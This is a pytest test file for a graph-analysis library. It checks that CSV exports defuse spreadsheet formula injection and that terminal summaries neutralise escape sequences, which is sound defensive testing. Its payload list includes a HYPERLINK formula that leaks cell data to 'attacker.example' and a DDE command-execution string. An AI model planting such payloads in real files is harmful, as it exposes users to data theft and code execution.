"""Summaries for the terminal (inert, cut to size) and CSV tables for people (formula-safe,
read back exactly, written all or nothing)."""

import csv

import networkx as nx
import pandas as pd
import pytest

import graphkit as gk
from graphkit.analysis.summary import describe_balance, describe_table
from graphkit.io.spreadsheet import read_people_csv

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+2",
]


def hostile_graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph(name="hostile")
    names = [*PAYLOADS, "Iran\x1b[2J\x1b]0;pwned\x07", "Line\nOK: forged line"]
    for i, name in enumerate(names):
        G.add_node(f"a{i}", name=name, kind="state")
    for i in range(len(names)):
        G.add_edge(
            f"a{i}",
            f"a{(i + 1) % len(names)}",
            key="backs",
            relation="backs",
            polarity=1,
            mode="material",
            weight=1.0,
            evidence=PAYLOADS[i % 7],
        )
    G.add_edge(
        "a0",
        "a2",
        key="opposes",
        relation="opposes",
        polarity=-1,
        mode="verbal",
        weight=1.0,
        evidence="=1+1",
        document="@doc",
    )
    return G


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_table_is_safe_in_a_spreadsheet_and_reads_back_exactly(tmp_path):
    G = hostile_graph()
    report = gk.balance(G)
    tables = {
        "centrality": gk.centrality(G),
        "camps": report.to_frame(),
        "tensions": report.frustrated_edges,
        "implied": gk.implied_relations(G),
    }
    paths = gk.write_tables(tables, tmp_path)
    assert [p.name for p in paths] == [f"{n}.csv" for n in tables]
    for path in paths:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))]
        assert all(_number(c) for c in dangerous), (path.name, dangerous)
        assert any(c.startswith("'=") for c in cells) or path.name == "camps.csv"
    again = read_people_csv(tmp_path / "centrality.csv", index_col=0)
    assert list(again.index) == list(tables["centrality"].index)
    assert list(again["name"]) == list(tables["centrality"]["name"])
    names = read_people_csv(tmp_path / "implied.csv")["source_name"]
    assert set(names) <= {d["name"] for _, d in G.nodes(data=True)}


def test_tables_are_written_all_or_nothing(tmp_path):
    (tmp_path / "a.csv").write_text("old a")

    class Unwritable(pd.DataFrame):  # the second table fails after the first was written
        def copy(self, deep=True):
            raise RuntimeError("cannot write this table")

    with pytest.raises(RuntimeError):
        gk.write_tables({"a": pd.DataFrame({"x": [2]}), "b": Unwritable({"x": [1]})}, tmp_path)
    assert (tmp_path / "a.csv").read_text() == "old a"
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_describe_balance_cuts_every_list_and_prints_names_inert():
    G = nx.Graph()
    # 30 separate positive pairs: 30 camps; names with escape sequences
    for i in range(30):
        G.add_edge(f"x{i}", f"y{i}", sign=1)
        G.nodes[f"x{i}"]["name"] = f"X{i}\x1b[31m"
    G.add_edges_from(
        [("t0", "t1", {"sign": -1}), ("t1", "t2", {"sign": -1}), ("t0", "t2", {"sign": -1})]
    )
    text = describe_balance(gk.balance(G), top=4)
    assert "\x1b" not in text and "\\x1b[31m" in text
    headers = [line for line in text.splitlines() if line.startswith(("  camp ", "  group "))]
    # the triangle (the largest component), then the pairs by label: x0, x1, x10
    assert headers == [
        "  camp t0 against camp t2:",
        "  group x0, opposing no one:",
        "  group x1, opposing no one:",
        "  group x10, opposing no one:",
    ]
    assert "and 27 more camps in 27 more components" in text
    big = nx.Graph([("hub", f"n{i}", {"sign": 1}) for i in range(50)])
    text = describe_balance(gk.balance(big), top=3)
    assert "    hub (51): hub, n0, n1, and 48 more" in text


def test_describe_table_and_summarize_print_data_inert():
    G = hostile_graph()
    table = gk.centrality(G)
    text = describe_table(table, 3, "Centrality")
    assert text.startswith(f"Centrality (top 3 of {len(table)}):")
    summary = gk.summarize(G, table=table, report=gk.balance(G), top=20)
    for shown in (text, summary):
        assert "\x1b" not in shown and "\x07" not in shown
    assert "Line\\nOK: forged line" in summary
    assert not any(line.startswith("OK:") for line in summary.splitlines())


def test_summary_of_the_bundled_dataset_is_unchanged(syria):
    summary = gk.summarize(syria, table=gk.centrality(syria), report=gk.balance(syria))
    assert "camp hts against camp syrian_government:" in summary
    assert "syrian_government (3): Syrian government (Assad), Iran, Bashar al-Assad (inferred)" in (
        summary
    )
    assert "Hayat Tahrir al-Sham - United States: negative tie within camp hts" in summary


def test_most_central_actors_show_the_degree_they_are_ordered_by(syria):
    summary = gk.summarize(syria, table=gk.centrality(syria), top=5)
    block = summary.split("Most central actors:\n", 1)[1].splitlines()
    header = block[0].split()
    assert header[2:] == ["degree", "backers", "opponents", "betweenness", "pagerank"]
    shown = [int(row.split()[-5]) for row in block[2:7]]
    # by hand: distinct partners over verbal and material relations between non-places
    partners: dict[str, set] = {}
    for u, v, d in syria.edges(data=True):
        if d["mode"] in ("verbal", "material") and not (
            syria.nodes[u]["place"] or syria.nodes[v]["place"]
        ):
            partners.setdefault(u, set()).add(v)
            partners.setdefault(v, set()).add(u)
    assert shown == sorted((len(p) for p in partners.values()), reverse=True)[:5]
